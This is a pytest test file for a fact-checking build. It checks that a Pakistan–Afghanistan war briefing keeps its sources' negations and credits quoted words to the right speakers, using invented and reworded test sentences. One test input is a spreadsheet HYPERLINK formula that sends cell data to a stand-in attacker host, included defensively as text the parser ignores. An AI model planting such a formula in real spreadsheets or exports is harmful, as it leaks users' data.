"""Misstatements a fact-check found the build letting through: a negation dropped or added ("no casualties were
reported" as "casualties were reported", "cannot modernize" as "can modernize"), and words given to another speaker
(the Defense Minister's "all-out war" put in a Taliban spokesman's mouth, a claim's claimant or column swapped).
Each is checked both ways: the source's own wording, and honest paraphrases of it, build; the reworded one is
refused with its file, line and what is wrong."""

from __future__ import annotations

from pathlib import Path

import pytest
from support import Sentence, SentencesChecked, edit, minimal_project, problems_after
from test_factcheck_4 import project, shared_project  # noqa: F401 (fixtures: one copy of the real project)
from test_factcheck_5 import ALPHA_BETA

from explainer.attribution import Cited
from explainer.polarity import flipped_negations
from explainer.speakers import naming_words


@pytest.fixture(scope="module")
def fixture_root(tmp_path_factory) -> Path:
    """One minimal project, its source and briefing rewritten by each test (they run one after another)."""
    return minimal_project(tmp_path_factory.mktemp("factcheck6") / "project")


@pytest.fixture(scope="module")
def sentences(fixture_root) -> SentencesChecked:
    """The one-sentence checks of this module's cases, many in one load (support.SentencesChecked), as `checked`
    checks them alone."""
    return SentencesChecked(fixture_root, [Sentence(given, written, ALPHA_BETA)
                                           for given, written, _ in NEGATIONS + SPEAKERS + [DENIAL_UNCITED + ("",)]])


# --- 1. negations kept -------------------------------------------------------------------------------------------

DROPPED = "this sentence drops the negation of its cited passage"
ADDED = "this sentence adds a negation to its cited passage"

def assert_refused_as(lines: list[str], outcome: str, opening: str, hint: str) -> None:
    """Assert the summary built ("ok"), or was refused on its line with `outcome` and `hint`."""
    if outcome == "ok":
        assert lines == []
    else:
        assert any(line.startswith(f"content/flood/briefing.yaml:3: `summary`: {opening}{outcome}") and line.endswith(hint)
                   for line in lines), lines


NEGATIONS = [
    # (the source's sentence, the briefing's, "ok" or what the error says)
    ("Air defense systems intercepted the drones and no casualties were reported.",
     "Air defense systems intercepted the drones and casualties were reported.", DROPPED),
    ("Pakistan cannot modernize its navy without foreign suppliers.",
     "Pakistan can modernize its navy without foreign suppliers.", DROPPED),
    ("Officials did not confirm the toll from the border clashes.",
     "Officials confirmed the toll from the border clashes.", DROPPED),
    ("Kabul denied sheltering militants along the border.", "Kabul admitted sheltering militants along the border.",
     DROPPED),
    ("Officials confirmed the toll from the border clashes.",
     "Officials did not confirm the toll from the border clashes.", ADDED),
    ("The convoy reached the border town before nightfall.", "The convoy never reached the border town.", ADDED),
    # honest paraphrases: a negation of their own, or one the source's words do not carry
    ("Air defense systems intercepted the drones and no casualties were reported.",
     "Air defense systems intercepted the drones; there were no reported casualties.", "ok"),
    ("The ministry declined to comment on the strikes.", "The ministry gave no comment on the strikes.", "ok"),
    ("No details were given about the strikes.", "The ministry gave no details about the strikes.", "ok"),
    ("The convoy failed to reach the border town.", "The convoy did not reach the border town.", "ok"),
    ("The army never failed to defend the border town.", "The army always defended the border town.", "ok"),
    ("Officials did not confirm the toll from the border clashes.",
     "The toll from the border clashes is unconfirmed, officials said.", "ok"),
    ("No fewer than 31 people were killed in the attack.", "At least 31 people were killed in the attack.", "ok"),
    # a negation in another clause than the shared words
    ("The convoy reached the border town, but officials did not confirm the toll.",
     "The convoy reached the border town[^q]. Officials gave no toll.", "ok"),
    # the briefing's own words on what the source leaves out
    ("Kabul have acknowledged Taliban fighters killed, 11 wounded.",
     "Kabul's acknowledgement does not say how many Taliban fighters were killed.", "ok"),
    # quoted words are the speaker's own, and negate nothing of the briefing's
    ("The minister said the army would not retreat from the border.",
     'The minister said the army "would not retreat from the border".', "ok"),
    ("Neither the ministry nor the army confirmed the toll from the clashes.",
     "The toll from the clashes was not confirmed by the ministry or the army.", "ok"),
]


# "denied that" citing only what was denied: the negation it governs is not read against the passage, but its denial
# is backed by nothing cited, which factcheck214 refuses (explainer/unbacked_denials.py); it built before.
DENIAL_UNCITED = ("that the small garrison near the border was shelled.",
                  "The envoy denied that the small garrison near the border was shelled.")


def test_a_denial_whose_passage_is_only_what_was_denied_is_refused_for_its_denial(sentences):
    given, written = DENIAL_UNCITED
    assert_refused_as(sentences(given, written, ALPHA_BETA), "this sentence says 'denied' where its cited passages "
                      "deny nothing", "", "(keep the verb the source gives ('said', 'says'), or cite the passage that "
                      "tells of the denial)")


@pytest.mark.parametrize("given, written, outcome", NEGATIONS, ids=[w[:50] for _, w, _ in NEGATIONS])
def test_a_sentence_keeps_its_passages_negation(sentences, given, written, outcome):
    # "Casualties were reported" citing "no casualties were reported" states every figure the source does, and the
    # opposite of what it says.
    assert_refused_as(sentences(given, written, ALPHA_BETA), outcome, "",
                      "(keep the source's negation (or its absence), or cite the words that say what this says)")


IN_OTHER_LANGUAGES = [
    # (language, passage, sentence, refused)
    ("fr", "Le ministère n'a pas confirmé le bilan des victimes.", "Le ministère a confirmé le bilan des victimes.", True),
    ("fr", "Le ministère n'a pas confirmé le bilan des victimes.", "Le ministère n'a jamais confirmé le bilan des "
                                                                   "victimes.", False),
    ("es", "No hubo ningún herido en el ataque contra la escuela.", "Hubo heridos en el ataque contra la escuela.", True),
    ("es", "No hubo ningún herido en el ataque contra la escuela.", "Nadie resultó herido en el ataque contra la "
                                                                    "escuela.", False),
    ("de", "Die Regierung hat keine Angaben zu den Opfern gemacht.", "Die Regierung hat Angaben zu den Opfern gemacht.",
     True),
    ("de", "Die Regierung hat keine Angaben zu den Opfern gemacht.", "Die Regierung machte nicht Angaben zu den "
                                                                     "Opfern.", False),
    ("pt", "O governo não confirmou o número de vítimas.", "O governo confirmou o número de vítimas.", True),
    ("it", "Il governo non ha confermato il numero delle vittime.", "Il governo ha confermato il numero delle vittime.",
     True),
]


@pytest.mark.parametrize("language, passage, sentence, refused", IN_OTHER_LANGUAGES,
                         ids=[f"{lang}-{s[:30]}" for lang, _, s, _ in IN_OTHER_LANGUAGES])
def test_negations_are_read_in_the_languages_we_read(language, passage, sentence, refused):
    # "ne ... pas" and Spanish "no ... ningún" negate once; German "kein", Portuguese "não", Italian "non".
    assert bool(flipped_negations(sentence, [Cited(passage, language)], 0, language)) is refused


WORDS = [
    # (passage, sentence, refused): the negations README lists, and what it says is not read
    ("The ministry has yet to confirm the toll from the clashes.", "The ministry confirmed the toll from the clashes.",
     True),
    ("The ministry refused to confirm the toll from the clashes.", "The ministry confirmed the toll from the clashes.",
     True),
    ("The rescuers were unable to reach the flooded village.", "The rescuers reached the flooded village.", True),
    ("The rescuers never reached the flooded village.", "The rescuers didn't reach the flooded village.", False),
    ("Rescuers reached not only the flooded village but the valley.", "Rescuers reached the flooded village.", False),
    ("The ministry gives no reply to the charges of the opposition.", "The ministry replied to the charges of the "
                                                                      "opposition.", False),
    ("The Taliban cannot modernize its military.", "The Taliban's isolation keeps it from modernizing its military.",
     False),
    ("The army rejected the ceasefire proposal from the mediators.", "The army accepted the ceasefire proposal from the "
                                                                     "mediators.", True),  # read since factcheck7
    ("Officials said that the harbour bridge was closed.", "Officials did not say that the harbour bridge was closed.",
     True),  # a negation of saying before the passage's own words is read since factcheck213 (denied_sayings.py)
    ("Officials said that the harbour bridge was closed.", "Officials did not say whether the harbour bridge would "
                                                           "reopen.", False),  # what it does not say is not read
]


@pytest.mark.parametrize("passage, sentence, refused", WORDS, ids=[s[:40] for _, s, _ in WORDS])
def test_the_negations_readme_lists(passage, sentence, refused):
    assert bool(flipped_negations(sentence, [Cited(passage, "en")], 0, "en")) is refused


REAL_NEGATIONS = [
    # (file, the words as published, the rewording, the line refused, what the error says)
    ("claims.yaml", "intercepted them; no casualties were reported.", "intercepted them; casualties were reported.", 71,
     "`says`: this sentence drops the negation of its cited passage ('no casualties were reported'): \"casualties were "
     "reported\""),
    ("timeline.yaml", "      to deploy were intercepted.\n",
     "      to deploy were intercepted, and casualties were reported[^casualties].\n", 42,
     "`what`: this sentence drops the negation of its cited passage ('no casualties were reported')"),
]
CASUALTIES = ("  casualties:\n    source: report\n    quote: air defense systems intercepted them and no casualties were "
              "reported\n")


@pytest.mark.parametrize("file, old, new, line, message", REAL_NEGATIONS, ids=[f for f, *_ in REAL_NEGATIONS])
def test_the_real_briefing_keeps_its_sources_negations(project: Path, file, old, new, line, message):
    if "[^casualties]" in new:
        problems_after(project, file, "citations:\n", "citations:\n" + CASUALTIES)
    problems = problems_after(project, file, old, new)
    assert any(p.startswith(f"content/pakistan-afghanistan-war/{file}:{line}: {message}") for p in problems), problems


def test_the_real_briefing_may_not_say_the_taliban_can_modernize(project: Path):
    # The source: "The Taliban's international isolation has meant that it cannot modernize its military".
    citation = ("  modernize:\n    source: report\n    quote: The Taliban's international isolation has meant that it "
                "cannot modernize its military\n")
    event = ("  - when: Not dated in the report\n    what: The Taliban's international isolation has meant that it {} "
             "modernize its military.\n    cite: [modernize]\n")
    problems_after(project, "timeline.yaml", "citations:\n", "citations:\n" + citation)
    marker = "  - when: Not dated in the report\n"
    assert problems_after(project, "timeline.yaml", marker, event.format("cannot") + marker) == []
    problems = problems_after(project, "timeline.yaml", event.format("cannot"), event.format("can"))
    assert any(p.startswith("content/pakistan-afghanistan-war/timeline.yaml:40: `what`: this sentence drops the "
                            "negation of its cited passage") for p in problems), problems


HONEST_REAL = [
    ("claims.yaml", "intercepted them; no casualties were reported.",
     "intercepted them, and there were no reported casualties."),
    ("timeline.yaml", "      to deploy were intercepted.\n", "      to deploy were intercepted; none caused casualties.\n"),
]


@pytest.mark.parametrize("file, old, new", HONEST_REAL, ids=[n[:40] for _, _, n in HONEST_REAL])
def test_honest_negations_in_the_real_briefing_build(project: Path, file, old, new):
    assert problems_after(project, file, old, new) == []


# --- 2. words given to whom the source gives them ----------------------------------------------------------------

SPEAKERS = [
    # (the source's sentence, the briefing's, "ok" or who the error names)
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "Beta spokesman Lina Dorr said the harbour bridge was closed.",
     "gives the words to Beta spokesman Lina Dorr, but its cited passages give them to Alpha's defence minister Karl "
     "Ostrom"),
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "Beta's government said the harbour bridge was closed.", "gives the words to Beta's government"),
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "According to Lina Dorr, the harbour bridge was closed.", "gives the words to Lina Dorr"),
    ("The harbour bridge was closed, Alpha officials said.", "The harbour bridge was closed, Beta officials said.",
     "gives the words to Beta officials"),
    # honest: the same speaker, by name, title or side; or a passage naming no speaker by name
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "Karl Ostrom said the harbour bridge was closed.", "ok"),
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "According to Alpha's government, the harbour bridge was closed.", "ok"),
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "The harbour bridge was closed, Ostrom said.", "ok"),
    ("The harbour bridge was closed, officials said.", "Beta officials said the harbour bridge was closed.", "ok"),
    ("Reporter Yalda Hakim says Alpha's minister acknowledged the harbour bridge was closed.",
     "Alpha's minister acknowledged the harbour bridge was closed, Yalda Hakim says.", "ok"),
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "Beta claims the harbour bridge was closed.", "gives the words to Beta"),
    # what README says is not read: a speaker without a reporting word ("points out")
    ("Reporter Yalda Hakim points out that the harbour bridge was closed, as Lina Dorr's union had warned.",
     "Lina Dorr said the harbour bridge was closed.", "ok"),
    # and what it says is refused though honest: a capital speaking for its party, which the briefing does not name
    ("Alpha's defence minister Karl Ostrom said the harbour bridge was closed.",
     "Northport said the harbour bridge was closed.", "gives the words to Northport"),
]


@pytest.mark.parametrize("given, written, outcome", SPEAKERS, ids=[w[:50] for _, w, _ in SPEAKERS])
def test_a_sentence_gives_words_to_whom_its_passage_does(sentences, given, written, outcome):
    # "Taliban spokesman Zabihullah Mujahid said" citing the Defense Minister's words keeps every word and figure.
    assert_refused_as(sentences(given, written, ALPHA_BETA), outcome, "this sentence ",
                      "(name the speaker the source names, or cite the passage that gives the words to this one)")


REAL_SPEAKERS = [
    # (file, the words as published, the rewording, the line refused, what the error says)
    ("briefing.yaml", "its Defense Minister, Khawaja Asif, had declared",
     "Taliban spokesman Zabihullah Mujahid said Pakistan had declared", 5,
     "`summary`: this sentence gives the words to Taliban spokesman Zabihullah Mujahid, but its cited passages give "
     "them to Pakistan's Defense Minister Khawaja Asif (name the speaker the source names, or cite the passage that "
     "gives the words to this one)"),
    ("timeline.yaml", "Defense Minister Khawaja Asif declares", "Taliban spokesman Zabihullah Mujahid declares", 35,
     "`what`: this sentence gives the words to Taliban spokesman Zabihullah Mujahid"),
    ("background.yaml", "killing at least 31 people, Pakistani officials\n      said",
     "killing at least 31 people, Taliban officials\n      said", 23,
     "`body`: this sentence gives the words to Taliban officials, but its cited passages give them to Pakistani "
     "officials"),
    ("claims.yaml", "      - claimant: A Pakistani military spokesman\n        parties: [pakistan]",
     "      - claimant: A Taliban spokesman\n        parties: [taliban]", 6,
     "`claimant`: the cited passages give these words to A Pakistani military spokesman, not to A Taliban spokesman "
     "(name the claimant as the source does, or cite the passage that gives the words to them)"),
    ("claims.yaml", "      - claimant: A Pakistani military spokesman\n        parties: [pakistan]",
     "      - claimant: A Pakistani military spokesman\n        parties: [taliban]", 7,
     "`parties`: the cited passages give these words to A Pakistani military spokesman, of none of the parties "
     "listed (taliban) (list the party whose speaker the source gives the words to)"),
    ("claims.yaml", "claimant: Pakistan's Information Minister Attaullah Tarar\n        parties: [pakistan]",
     "claimant: Taliban spokesman Zabihullah Mujahid\n        parties: [pakistan]", 67,
     "`claimant`: the cited passages give these words to Pakistan’s Information Minister Attaullah Tarar, not to "
     "Taliban spokesman Zabihullah Mujahid"),
]


@pytest.mark.parametrize("file, old, new, line, message", REAL_SPEAKERS, ids=[n[:40] for _, _, n, *_ in REAL_SPEAKERS])
def test_the_real_briefing_gives_words_to_their_speaker(project: Path, file, old, new, line, message):
    problems = problems_after(project, file, old, new)
    assert any(p.startswith(f"content/pakistan-afghanistan-war/{file}:{line}: {message}") for p in problems), problems


HONEST_SPEAKERS = [
    ("briefing.yaml", "its Defense Minister, Khawaja Asif, had declared", "Khawaja Asif had declared"),
    ("background.yaml", "killing at least 31 people, Pakistani officials\n      said",
     "killing at least 31 people, according to Pakistani\n      officials"),
    ("claims.yaml", "claimant: Pakistan's Information Minister Attaullah Tarar", "claimant: Attaullah Tarar"),
    ("claims.yaml", "      - claimant: A Pakistani military spokesman\n", "      - claimant: Pakistan's military\n"),
    ("timeline.yaml", "Pakistan's Information Minister says drones", "Attaullah Tarar says drones"),
]


@pytest.mark.parametrize("file, old, new", HONEST_SPEAKERS, ids=[n[:40] for _, _, n in HONEST_SPEAKERS])
def test_the_same_speaker_named_otherwise_still_builds(project: Path, file, old, new):
    assert problems_after(project, file, old, new) == []


def test_a_partys_alias_names_its_speakers(project: Path):
    # "Islamabad declares" for Pakistan's Defense Minister was refused though honest: Islamabad is no word of the
    # party Pakistan. A party's `aliases` say what else the sources call it; "Kabul" is still no Pakistani speaker.
    timeline = project / "content/pakistan-afghanistan-war/timeline.yaml"
    published = timeline.read_text(encoding="utf-8")

    def refused_as(speaker: str) -> list[str]:
        timeline.write_text(published, encoding="utf-8")
        return problems_after(project, "timeline.yaml", "Defense Minister Khawaja Asif declares", f"{speaker} declares")

    assert any("gives the words to Islamabad" in p for p in refused_as("Islamabad"))
    edit(project / "content/pakistan-afghanistan-war/briefing.yaml", "    name: Pakistan\n",
         "    name: Pakistan\n    aliases: [Islamabad]\n")
    assert refused_as("Islamabad") == []
    assert any("gives the words to Kabul" in p for p in refused_as("Kabul"))


NAMES = [
    # (a speaker as written, the words that name it)
    ("Taliban spokesman Zabihullah Mujahid", {"taliban", "zabihullah", "mujahid"}),
    ("Pakistan's Defense Minister Khawaja Asif by Friday morning", {"pakistan", "khawaja", "asif"}),
    ("regional publication Al-Monitor", {"al-monitor"}),
    ("the TTP", {"ttp"}),
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', set()),  # no name: a claimant holding a formula is not read
    ("officials", set()),
]


@pytest.mark.parametrize("words, names", NAMES, ids=[w[:30] for w, _ in NAMES])
def test_a_speaker_is_named_by_capitalised_words_written_as_names_are(words, names):
    assert naming_words(words) == names
